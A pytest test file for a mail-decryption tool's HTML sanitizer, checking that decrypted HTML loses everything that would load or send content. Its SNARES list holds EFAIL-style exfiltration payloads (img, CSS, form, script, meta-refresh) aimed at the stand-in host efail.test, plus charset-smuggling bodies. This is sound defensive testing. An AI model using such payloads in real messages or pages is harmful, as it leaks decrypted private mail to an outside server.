"""HTML that nothing authenticates loses whatever it would load or send; everything else stays octet for octet."""

from __future__ import annotations

import base64
import builtins
import re
import subprocess
from typing import Any

import pytest

from smilla.adapters import html_child
from smilla.adapters.html_cleaner import HTMLCleaner
from smilla.decrypt import entity, harmless
from smilla.errors import EngineMissing, NotDecrypted
from smilla.formats import mime
from tests.unit.decrypt.test_entity import WELL_FORMED, multipart, part

SNARES = (
    b'<img src="http://efail.test/%s">',
    b"<img src='https://efail.test/x",
    b'<IMG SRC="//efail.test/x">',
    b'<img src="/x"><img srcset="http://efail.test/x 2x">',
    b'<link rel=stylesheet href="http://efail.test/x">',
    b"<style>@import url(http://efail.test/x)</style>",
    b'<p style="background: url(http://efail.test/x)">',
    b'<body background="http://efail.test/x">',
    b'<a href="http://efail.test/x">here</a>',
    b'<form action="http://efail.test/x"><input type=submit></form>',
    b'<iframe src="http://efail.test/x"></iframe><object data="http://efail.test/x"></object>',
    b'<script>fetch("http://efail.test/x")</script><svg><image href="http://efail.test/x"/></svg>',
    b'<meta http-equiv=refresh content="0;url=http://efail.test/x"><base href="http://efail.test/">',
    b'<video poster="http://efail.test/x"><source src="http://efail.test/x"></video>',
    b'<blockquote cite="http://efail.test/x"><table background="http://efail.test/x"><td background=//efail.test/x>',
    b"<!-- http://efail.test/x --><a href=javascript:efail.test>x</a>",
)


def made(raw: bytes, how: str = "strip") -> bytes:
    found, changed = harmless.harmless(entity.read(raw), how, HTMLCleaner().of_a_message())
    assert changed == (found.raw != entity.read(raw).raw)
    entity.check(found)
    return found.raw


def leaf(raw: bytes) -> str:
    """The text of a whole that is one part."""
    found = entity.read(raw)
    kind, encoding = entity.content(found.headers)
    octets = b"".join(mime.decoded([found.raw_body], encoding))
    return octets.decode(kind.parameters.get("charset", "ascii"))


@pytest.mark.parametrize("snare", SNARES)
@pytest.mark.parametrize("encoding", [b"8bit", b"base64"])
def test_nothing_is_left_that_would_be_loaded_or_followed(snare: bytes, encoding: bytes) -> None:
    html = b"<p>The canary" + snare + b" sings</p>"
    raw = base64.encodebytes(html).replace(b"\n", b"\r\n") if encoding == b"base64" else html
    text = leaf(made(part(b"text/html; charset=utf-8", raw, encoding)))
    assert "efail" not in text
    assert "The canary" in text


def test_words_their_form_and_pictures_of_the_message_stay() -> None:
    html = b'<h1>Gr\xfcn</h1><p>a <b>b</b><table><tr><td colspan="2">c</td></tr></table><img src="cid:1@x" alt="d">'
    found = made(part(b"text/html; charset=iso-8859-1", html, b"8bit"))
    assert b"Content-Type: text/html; charset=iso-8859-1\r\n" in found
    assert 'colspan="2"' in leaf(found)
    assert 'src="cid:1@x"' in leaf(found)
    assert "<h1>Grün</h1>" in leaf(found)


def test_character_that_the_charset_lacks_becomes_a_reference() -> None:
    assert "&#8364;" in leaf(made(part(b"text/html", b"<p>&euro;", b"7bit")))


def test_only_html_parts_change_wherever_they_stand() -> None:
    snare = part(b"text/html; charset=utf-8", b"<p>x<img src=http://efail.test/>")
    text, picture = part(b"text/plain", b"plain\r\n"), part(b"image/png", b"\x89PNG\x00"[:4], b"binary")
    forwarded = part(b"message/rfc822", b"Subject: s\r\n" + snare)
    inner = multipart(text, snare).replace(b'"b"', b'"c"').replace(b"--b", b"--c")
    whole = multipart(text, inner, forwarded, picture, b"", before=b"This is a multi-part message in MIME format.")
    found = made(whole)
    assert b"efail" not in found
    assert [octets for octets in (text, picture, b"Subject: s\r\n", b"multi-part message") if octets not in found] == []
    assert found.count(b"text/html") == 2
    assert found.count(b"\r\n--b") == whole.count(b"\r\n--b")


@pytest.mark.parametrize("name", [name for name in WELL_FORMED if name != "html"])
def test_what_has_no_html_stays_octet_for_octet(name: str) -> None:
    raw = WELL_FORMED[name].replace(b"text/html", b"text/plain")
    for how in ("strip", "text", "keep"):
        assert made(raw, how) == entity.read(raw).raw


@pytest.mark.parametrize(
    "kind", ["text/html", "TEXT / HTML", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/xml"]
)
def test_as_text_the_type_changes_and_the_charset_stays(kind: str) -> None:
    raw = part(kind.encode() + b"; charset=utf-8", b"<p>PGI+</p>", b"8bit")
    assert made(raw, "text") == raw.replace(kind.encode(), b"text/plain")


@pytest.mark.parametrize("how", ["strip", "text"])
@pytest.mark.parametrize(
    "kind",
    [
        b"(text/plain) image/svg+xml",
        b"(a/b) text/html; charset=no-such",
        b"text (a/b) / (c/d) html; charset=utf-8; charset*=utf-7''utf-7",
        b"text/html; name=x.html; charset*0=utf; charset*1=-7",
        b'text/html; charset="utf-8; x=y"',
    ],
)
def test_nothing_of_the_field_is_left_that_another_program_may_read_in_another_way(kind: bytes, how: str) -> None:
    found = entity.read(made(part(kind, SNARES[0], b"8bit"), how))
    (field,) = [header.raw_value for header in found.headers if header.name == "content-type"]
    wanted = b"text/html" if how == "strip" and b"charset*=" in kind else b"text/plain"
    assert re.fullmatch(rb" " + wanted + rb"(?:; charset=[a-z0-9-]+)?", field)


@pytest.mark.parametrize("how", ["strip", "text"])
def test_html_of_a_digest_is_seen_though_its_part_has_no_type(how: str) -> None:
    """RFC 2046 section 5.1.5: such a part is a message."""
    raw = multipart(b"\r\n" + part(b"text/html; charset=utf-8", SNARES[0], b"8bit"))
    raw = raw.replace(b"multipart/mixed", b"multipart/digest")
    assert b"multipart/digest" in raw
    found = made(raw, how)
    assert (b"efail" in found, b"text/html" in found) == (how == "text", how == "strip")


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        (b"text/html; charset=utf-7", b"+ADw-img src+AD0-x+AD4-"),
        (b"text/html; charset=iso-2022-jp", b"<p>"),
        (b"text/html; charset=no-such", b"<p>"),
        *((b"text/html; charset=" + name, SNARES[0]) for name in (b"cp037", b"cp500", b"cp1140", b"cp864")),
        (b"text/html; charset=cp1361", b"\x88<img src=//efail.test/ \x88>"),
        (b"text/html; charset=unicode_escape", b"\\x3cimg"),
        (b"text/html", b"<p>gr\xc3\xbcn"),
        (b"image/svg+xml", b"<svg onload=x>"),
        (b"application/xhtml+xml", b"<p>"),
    ],
)
def test_what_cannot_be_cleaned_for_certain_is_handed_on_as_text(kind: bytes, body: bytes) -> None:
    found = made(part(kind, body))
    assert found.startswith(b"Content-Type: text/plain")
    assert found.endswith(body)


def test_kept_html_stays() -> None:
    raw = part(b"text/html", SNARES[0])
    assert made(raw, "keep") == raw


@pytest.mark.parametrize("how", ["strip", "text"])
def test_html_inside_a_further_structure_cannot_be_seen_so_it_is_not_handed_on(how: str) -> None:
    opaque = part(b"application/pkcs7-mime; smime-type=signed-data", base64.b64encode(b"0"), b"base64")
    for raw in (opaque, multipart(opaque)):
        with pytest.raises(NotDecrypted) as caught:
            harmless.harmless(entity.read(raw), how)
        assert caught.value.code == "opaque"
    assert harmless.harmless(entity.read(opaque), "keep")[1] is False


def test_without_the_library_the_extra_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    real = builtins.__import__

    def without(name: str, *words: Any, **more: Any) -> Any:
        if name == "nh3":
            raise ImportError("no nh3")
        return real(name, *words, **more)

    monkeypatch.setattr(builtins, "__import__", without)
    with pytest.raises(EngineMissing, match=r"pip install smilla\[decrypt\]"):
        HTMLCleaner()


def test_much_html_is_cleaned_in_a_process_of_its_own_and_comes_out_the_same() -> None:
    text = "<p>gr\u00fcn <a href=http://efail.test/>x</a><img src=cid:1><b>bold</b></p>\n" * 4000
    clean = HTMLCleaner().of_a_message()
    assert clean(text) == html_child.cleaned(text)
    assert "efail" not in html_child.cleaned(text)


def test_html_that_takes_too_long_to_clean_is_handed_on_as_text_and_so_is_what_follows() -> None:
    nested = part(b"text/html", b"<div>" * 400_000)
    small = part(b"text/html", b"<p>hello<img src=http://efail.test/>")
    large = part(b"text/html", b"<p>hello<img src=http://efail.test/></p>\r\n" * 2000)
    clean = HTMLCleaner(computing_s=1).of_a_message()
    found, changed = harmless.harmless(entity.read(multipart(nested, large, small)), "strip", clean)
    assert changed
    kinds = [line for line in found.raw.split(b"\r\n") if line.startswith(b"Content-Type: text/")]
    assert kinds == [b"Content-Type: text/plain; charset=us-ascii"] * 2 + [b"Content-Type: text/html; charset=us-ascii"]
    assert clean("<p>" * 100_000) is None


def test_process_that_cannot_be_started_leaves_the_message_for_later(monkeypatch: pytest.MonkeyPatch) -> None:
    def none(*_: Any, **__: Any) -> None:
        raise BlockingIOError("no room")

    monkeypatch.setattr(subprocess, "run", none)
    with pytest.raises(NotDecrypted, match="no room") as caught:
        HTMLCleaner().of_a_message()("<p>" * 100_000)
    assert caught.value.temporary
